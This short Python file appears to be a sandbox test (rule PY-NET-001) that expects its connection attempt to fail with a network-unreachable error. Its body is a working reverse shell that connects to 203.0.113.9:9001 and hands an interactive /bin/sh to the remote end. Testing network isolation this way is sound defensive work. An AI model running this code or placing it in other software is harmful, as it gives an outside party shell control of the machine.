# rule: PY-NET-001
# attempts: reverse shell: .*(Network is unreachable|Errno 101)
import os
import socket

s = socket.socket()
try:
    s.connect(("203.0.113.9", 9001))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
except OSError as e:
    print("reverse shell:", e)
